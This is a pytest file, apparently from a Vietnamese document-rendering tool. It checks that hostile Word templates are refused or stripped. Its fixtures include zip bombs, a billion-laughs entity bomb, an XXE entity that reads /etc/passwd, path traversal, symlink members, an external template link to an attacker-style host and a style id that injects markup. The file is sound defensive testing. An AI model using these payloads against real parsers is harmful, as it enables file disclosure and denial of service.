"""Word style templates (--mau) as an attacker would write them: zip bombs, device files, FIFOs, external
relationships, macros, style ids that inject text, entity bombs, malformed XML. Each is a located error
or a document with a warning — never a hang, a traceback or a byte of the attack in the output."""

from __future__ import annotations

import io
import os
import stat
import zipfile
from pathlib import Path

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from quyche.errors import DiagnosticError
from quyche.render.mau import read_mau

from support import BASE, ROOT, assert_refused, bounded, write

TEMPLATE = ROOT / "templates" / "quyche-nd30-2020.docx"
MIB = 1 << 20


def _parts() -> dict[str, bytes]:
    with zipfile.ZipFile(TEMPLATE) as z:
        return {n: z.read(n) for n in z.namelist()}


def _zip(parts: dict[str, bytes], *, extra: list[zipfile.ZipInfo] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
        for info in extra or []:
            z.writestr(info, b"x")
    return buf.getvalue()


def _with(**changes: bytes | None) -> bytes:
    parts = _parts()
    for name, data in changes.items():
        key = name.replace("__", "/").replace("_DOT_", ".")
        if data is None:
            parts.pop(key, None)
        else:
            parts[key] = data
    return _zip(parts)


def _styles_with(fragment: bytes) -> bytes:
    return _parts()["word/styles.xml"].replace(b"</w:styles>", fragment + b"</w:styles>")


_BAD_ID = (
    b'<w:style w:type="paragraph" w:customStyle="1" w:styleId="QCdieu&quot;/&gt;&lt;w:t&gt;CHEN-VAO&lt;/w:t&gt;">'
    b'<w:name w:val="QC dieu"/></w:style>'
)
_ENTITY_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&d;&d;&d;</w:styles>'
)
_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;</w:styles>'
)


def _symlink_member() -> bytes:
    info = zipfile.ZipInfo("word/media/lien-ket.png")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return _zip(_parts(), extra=[info])


def _refused_cases() -> list[tuple[str, object, str]]:
    """(what was tried, how to make the file, expected code): generated families, several sizes each."""
    cases: list[tuple[str, object, str]] = []
    for mib in (40, 100):
        cases.append(
            (
                f"bom zip: một phần {mib} MiB số 0",
                lambda m=mib: _with(word__bom_DOT_xml=b"\0" * (m * MIB)),
                "vuot-gioi-han",
            )
        )
    for mib in (2, 8):
        cases.append(
            (
                f"bom zip: tỉ lệ nén > 200 ({mib} MiB)",
                lambda m=mib: _with(word__r_DOT_xml=b"\0" * (m * MIB)),
                "vuot-gioi-han",
            )
        )
    for n in (2_001, 5_000):
        many = {f"x/{i}.xml": b"" for i in range(n)}
        cases.append((f"{n} phần trong zip", lambda d=many: _zip({**_parts(), **d}), "vuot-gioi-han"))
    cases += [
        ("thực thể XML lồng nhau (billion laughs)", lambda: _with(word__styles_DOT_xml=_ENTITY_BOMB), "mau-docx-loi"),
        ("thực thể ngoài (XXE file:///etc/passwd)", lambda: _with(word__styles_DOT_xml=_XXE), "mau-docx-loi"),
        ("styles.xml hỏng", lambda: _with(word__styles_DOT_xml=b"<w:styles><w:style>"), "mau-docx-loi"),
        ("styles.xml rỗng", lambda: _with(word__styles_DOT_xml=b""), "mau-docx-loi"),
        ("không có styles.xml", lambda: _with(word__styles_DOT_xml=None), "mau-docx-loi"),
        ("không có document.xml.rels", lambda: _with(word___rels__document_DOT_xml_DOT_rels=None), "mau-docx-loi"),
        ("tên phần ../../thoat.xml", lambda: _zip({**_parts(), "../../thoat.xml": b"x"}), "mau-docx-loi"),
        ("phần là liên kết tượng trưng", _symlink_member, "mau-docx-loi"),
        ("không phải zip (PDF)", lambda: b"%PDF-1.7\n" + os.urandom(2000), "mau-docx-loi"),
        ("zip cắt cụt", lambda: TEMPLATE.read_bytes()[:3000], "mau-docx-loi"),
    ]
    return cases


_CASES = _refused_cases()


@pytest.mark.parametrize(("tried", "make", "code"), _CASES, ids=[c[0] for c in _CASES])
def test_hostile_template_refused(tmp_path: Path, case, tried: str, make, code: str) -> None:
    case("mẫu Word (--mau)", tried, f"lỗi {code} tại tệp mẫu, không ghi gì, không treo")
    mau = tmp_path / "mau.docx"
    mau.write_bytes(make())
    r = bounded("render", str(write(tmp_path, BASE)), "-o", str(tmp_path / "out"), "-f", "docx", "--mau", str(mau))
    assert_refused(r, code, folder=tmp_path / "out")
    assert "root:" not in r.stderr


@pytest.mark.parametrize("kind", ["fifo", "device", "folder"])
def test_template_not_a_regular_file(tmp_path: Path, case, kind: str) -> None:
    case("mẫu Word (--mau)", f"--mau là {kind}", "lỗi tep-khong-thuong, không treo, không đọc hàng GB")
    if kind == "fifo":
        mau = tmp_path / "mau.docx"
        os.mkfifo(mau)
    elif kind == "device":
        mau = Path("/dev/zero")
    else:
        mau = tmp_path / "mau.docx"
        mau.mkdir()
    r = bounded("render", str(write(tmp_path, BASE)), "-o", str(tmp_path / "out"), "-f", "docx", "--mau", str(mau))
    assert_refused(r, "tep-khong-thuong", folder=tmp_path / "out")


_EXT_REL = (
    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="http://ke-xau.example/mau.dotm" TargetMode="External"/></Relationships>'
)


def _dropped_cases() -> list[tuple[str, dict[str, bytes], bytes]]:
    rels = _parts()["word/_rels/document.xml.rels"]
    return [
        ("liên kết ra ngoài", {"word/_rels/document.xml.rels": rels.replace(b"</Relationships>", _EXT_REL)}, b"ke-xau"),
        ("macro vbaProject.bin", {"word/vbaProject.bin": b"MACRO-VBA" * 100}, b"MACRO-VBA"),
        ("custom XML", {"customXml/item1.xml": b"<x>DU-LIEU-LA</x>"}, b"DU-LIEU-LA"),
        ("đối tượng nhúng", {"word/embeddings/oleObject1.bin": b"OLE-NHUNG" * 10}, b"OLE-NHUNG"),
        ("mã kiểu chèn chữ vào văn bản", {"word/styles.xml": _styles_with(_BAD_ID)}, b"CHEN-VAO"),
        (
            "phông nhúng trong fontTable",
            {
                "word/fontTable.xml": b'<w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
                b' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:font w:name="X">'
                b'<w:embedRegular r:id="rId9"/></w:font></w:fonts>',
                "word/_rels/document.xml.rels": rels.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/fontTable" Target="fontTable.xml"/></Relationships>',
                ),
            },
            b"embedRegular",
        ),
    ]


_DROPPED = _dropped_cases()


@pytest.mark.parametrize(("tried", "parts", "marker"), _DROPPED, ids=[c[0] for c in _DROPPED])
def test_template_parts_dropped_with_a_warning(tmp_path: Path, case, tried: str, parts: dict, marker: bytes) -> None:
    case("mẫu Word (--mau)", tried, "bỏ phần đó, cảnh báo mau-docx-bo-phan, văn bản mở được, không còn dấu vết")
    mau = tmp_path / "mau.docx"
    mau.write_bytes(_zip({**_parts(), **parts}))
    r = bounded("render", str(write(tmp_path, BASE)), "-o", str(tmp_path / "out"), "-f", "docx", "--mau", str(mau))
    assert r.returncode == 0 and "[mau-docx-bo-phan]" in r.stderr and "Traceback" not in r.stderr, r.stderr
    out = tmp_path / "out" / "vb.docx"
    with zipfile.ZipFile(out) as z:
        assert all(marker not in z.read(n) for n in z.namelist())
        assert not [n for n in z.namelist() if n.startswith(("customXml", "word/embeddings")) or n.endswith(".bin")]
    assert Document(str(out)).paragraphs


@settings(max_examples=40, deadline=5000, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(st.integers(0, 40_000), st.integers(0, 255)), min_size=1, max_size=8))
def test_corrupted_templates_never_crash(tmp_path: Path, flips: list[tuple[int, int]]) -> None:
    """Generated corruptions of a real template: read_mau returns the kept parts or a located error."""
    data = bytearray(TEMPLATE.read_bytes())
    for at, value in flips:
        data[at % len(data)] = value
    mau = tmp_path / f"mau-{abs(hash(tuple(flips)))}.docx"
    mau.write_bytes(bytes(data))
    try:
        kept = read_mau(mau)
    except DiagnosticError as exc:
        assert exc.errors and exc.errors[0].location is not None
        return
    assert "word/styles.xml" in kept.parts
